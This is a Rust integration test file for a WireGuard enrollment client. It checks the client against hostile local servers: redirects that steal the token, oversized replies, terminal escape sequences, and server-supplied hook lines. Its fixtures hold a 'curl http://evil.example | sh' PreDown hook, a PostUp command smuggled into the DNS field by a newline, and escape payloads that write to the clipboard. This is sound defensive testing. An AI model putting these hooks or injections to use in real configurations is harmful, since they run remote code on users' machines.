//! The client against a hostile edge: a real HTTP server on 127.0.0.1 that redirects the
//! token elsewhere, sends endless answers, escape sequences in names, and hook lines in the
//! WireGuard text. The client must follow no redirect, read at most 1 MiB, print only
//! printable text, and keep no server-written wg-quick text.

use axum::body::Body;
use axum::extract::State;
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use axum::{Json, Router};
use serde_json::{json, Value};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

const BIN: &str = env!("CARGO_BIN_EXE_onramp-client");
const TOKEN: &str = "DuK8xRes5zYqem0fcAViQPRvIrNkGz7S";
const GATEWAY_KEY: &str = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";

async fn serve(app: Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    url
}

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

/// `add-instance` against `edge`, the token from the environment (never argv).
async fn add_instance(edge: &str, data: &Path) -> Out {
    let (edge, data) = (edge.to_owned(), data.to_owned());
    let out = tokio::task::spawn_blocking(move || {
        Command::new(BIN)
            .args(["add-instance", "--url", &format!("{edge}/")])
            .env("ONRAMP_CLIENT_DATA_DIR", &data)
            .env("ONRAMP_CLIENT_ALLOW_HTTP", "1")
            .env("ONRAMP_CLIENT_RETRIES", "0")
            .env("ONRAMP_TOKEN", TOKEN)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    Out {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn instance(name: &str) -> Value {
    json!({"id": "6f1d1c5e-hostile", "name": name, "url": "https://core.example.com", "proxy_url": "https://edge.example.com",
        "username": "ann", "enterprise_enabled": false, "disable_all_traffic": false, "openid_display_name": null,
        "client_traffic_policy": null})
}

fn start(instance_name: &str, first_name: &str, admin_name: &str) -> Value {
    json!({
        "admin": {"name": admin_name, "phone_number": null, "email": "admin@example.com"},
        "user": {"first_name": first_name, "last_name": "Example", "login": "ann", "email": "ann@example.com",
            "phone_number": null, "is_active": true, "device_names": [], "enrolled": true, "is_admin": false},
        "deadline_timestamp": 4_000_000_000i64,
        "final_page_content": "",
        "instance": instance(instance_name),
        "settings": {"vpn_setup_optional": false, "only_client_activation": false, "admin_device_management": false,
            "smtp_configured": false, "mfa_required": false}
    })
}

fn location(name: &str, config: &str, dns: &str) -> Value {
    json!({"network_id": 1, "network_name": name, "config": config, "endpoint": "vpn.example.com:51820",
        "assigned_ip": "10.1.0.2", "pubkey": GATEWAY_KEY, "allowed_ips": "10.1.0.0/24", "dns": dns,
        "mfa_enabled": false, "keepalive_interval": 25, "location_mfa_mode": null, "service_location_mode": null})
}

fn device_config(device_name: &str, location: Value, instance_name: &str) -> Value {
    json!({"device": {"id": 7, "name": device_name, "pubkey": "cGVlcg==", "user_id": 1, "created_at": 0},
        "configs": [location], "instance": instance(instance_name), "token": "PollingTokenPollingTokenPolling1"})
}

/// An edge answering start and create_device with what the test gives it.
async fn edge(start: Value, device: Value) -> String {
    let app = Router::new()
        .route("/api/v1/enrollment/start", post(move || async move { Json(start) }))
        .route("/api/v1/enrollment/create_device", post(move || async move { Json(device) }));
    serve(app).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirects_are_never_followed() {
    // Whatever reaches this server was sent where the user never pointed the client.
    let seen: Arc<Mutex<Vec<String>>> = Arc::default();
    let thief = serve(
        Router::new()
            .fallback(|State(seen): State<Arc<Mutex<Vec<String>>>>, body: String| async move {
                seen.lock().unwrap().push(body);
                Json(start("Thief", "Ann", "Thief"))
            })
            .with_state(seen.clone()),
    )
    .await;
    for status in [StatusCode::TEMPORARY_REDIRECT, StatusCode::PERMANENT_REDIRECT, StatusCode::FOUND] {
        let to = format!("{thief}/api/v1/enrollment/start");
        let hostile = serve(Router::new().route(
            "/api/v1/enrollment/start",
            post(move || async move { (status, [(header::LOCATION, to)]).into_response() }),
        ))
        .await;
        let data = tempfile::tempdir().unwrap();
        let r = add_instance(&hostile, data.path()).await;
        assert_eq!(r.code, 1, "{status}: {}{}", r.stdout, r.stderr);
        assert!(
            r.stderr.contains(&format!("redirect ({})", status.as_u16())) && r.stderr.contains("follows no redirects"),
            "{status}: {}",
            r.stderr
        );
        assert!(!r.stderr.contains(TOKEN) && !r.stdout.contains(TOKEN));
        assert!(seen.lock().unwrap().is_empty(), "{status}: the request went to the other origin: {:?}", seen.lock());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_answers_are_refused() {
    // One with its length announced, one streamed without (chunked).
    let announced = serve(Router::new().route(
        "/api/v1/enrollment/start",
        post(|| async { ([(header::CONTENT_TYPE, "application/json")], vec![b' '; 3 * 1024 * 1024]) }),
    ))
    .await;
    let streamed = serve(Router::new().route(
        "/api/v1/enrollment/start",
        post(|| async {
            let chunks = (0..64).map(|_| Ok::<_, std::io::Error>(vec![b' '; 64 * 1024]));
            Response::builder()
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from_stream(futures::stream::iter(chunks)))
                .unwrap()
        }),
    ))
    .await;
    for url in [announced, streamed] {
        let data = tempfile::tempdir().unwrap();
        let r = add_instance(&url, data.path()).await;
        assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
        assert!(r.stderr.contains("larger than 1 MiB"), "{}", r.stderr);
    }
}

fn assert_printable(text: &str) {
    let bad: Vec<char> = text.chars().filter(|c| c.is_control() && *c != '\n').collect();
    assert!(bad.is_empty(), "control characters {bad:?} reached the terminal: {text:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_text_cannot_drive_the_terminal() {
    let evil = "Evil\x1b]0;owned\x07Corp\x1b[2J";
    let url = edge(
        start(evil, "\x1b[31mAnn\u{9b}1A", "Ada\rForged admin\x08"),
        device_config("lap\x1b[5mtop", location("off\x1bice", "[Interface]\n", "10.1.0.1"), evil),
    )
    .await;
    let data = tempfile::tempdir().unwrap();
    let r = add_instance(&url, data.path()).await;
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("Welcome to Evil]0;ownedCorp[2J"), "{}", r.stdout);
    assert_printable(&r.stdout);
    assert_printable(&r.stderr);
    for args in [&["instances"][..], &["locations"], &["status"], &["sync"]] {
        let out = Command::new(BIN)
            .args(args)
            .env("ONRAMP_CLIENT_DATA_DIR", data.path())
            .env("ONRAMP_CLIENT_RETRIES", "0")
            .output()
            .unwrap();
        assert_printable(&String::from_utf8_lossy(&out.stdout));
        assert_printable(&String::from_utf8_lossy(&out.stderr));
    }
    // An error message carrying the server's text.
    let url = serve(Router::new().route(
        "/api/v1/enrollment/start",
        post(|| async { (StatusCode::BAD_REQUEST, Json(json!({"error": "no\x1b[8m hidden \x1b]52;c;Y3VybA==\x07"}))) }),
    ))
    .await;
    let r = add_instance(&url, tempfile::tempdir().unwrap().path()).await;
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("no[8m hidden"), "{}", r.stderr);
    assert_printable(&r.stderr);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hook_lines_from_the_server_are_never_kept() {
    let hostile_text =
        "[Interface]\nPrivateKey = YOUR_PRIVATE_KEY\nAddress = 10.1.0.2\nPostUp = touch /tmp/onramp-pwned\n\
        PreDown = curl http://evil.example | sh\n\n[Peer]\nPublicKey = x\nEndpoint = vpn.example.com:51820\n";
    let url = edge(
        start("Corp", "Ann", "Ada"),
        device_config("laptop", location("office", hostile_text, "10.1.0.1"), "Corp"),
    )
    .await;
    let data = tempfile::tempdir().unwrap();
    let r = add_instance(&url, data.path()).await;
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let store = onramp_client::Store::open(data.path()).await.unwrap();
    let i = &store.instances().await.unwrap()[0];
    let kept = &store.locations(&i.id).await.unwrap()[0].config;
    assert_eq!(
        kept,
        &format!(
            "[Interface]\nPrivateKey = YOUR_PRIVATE_KEY\nAddress = 10.1.0.2\nDNS = 10.1.0.1\n\n[Peer]\nPublicKey = {GATEWAY_KEY}\n\
             AllowedIPs = 10.1.0.0/24\nEndpoint = vpn.example.com:51820\nPersistentKeepalive = 25\n"
        )
    );
    store.close().await;

    // A hook line smuggled into a structured field: the answer is refused, nothing stored.
    let url = edge(
        start("Corp", "Ann", "Ada"),
        device_config("laptop", location("office", "", "10.1.0.1\nPostUp = touch /tmp/onramp-pwned"), "Corp"),
    )
    .await;
    let data = tempfile::tempdir().unwrap();
    let r = add_instance(&url, data.path()).await;
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    assert!(r.stderr.contains("location \"office\"") && r.stderr.contains("dns"), "{}", r.stderr);
    let store = onramp_client::Store::open(data.path()).await.unwrap();
    assert!(store.instances().await.unwrap().is_empty());
    store.close().await;
}
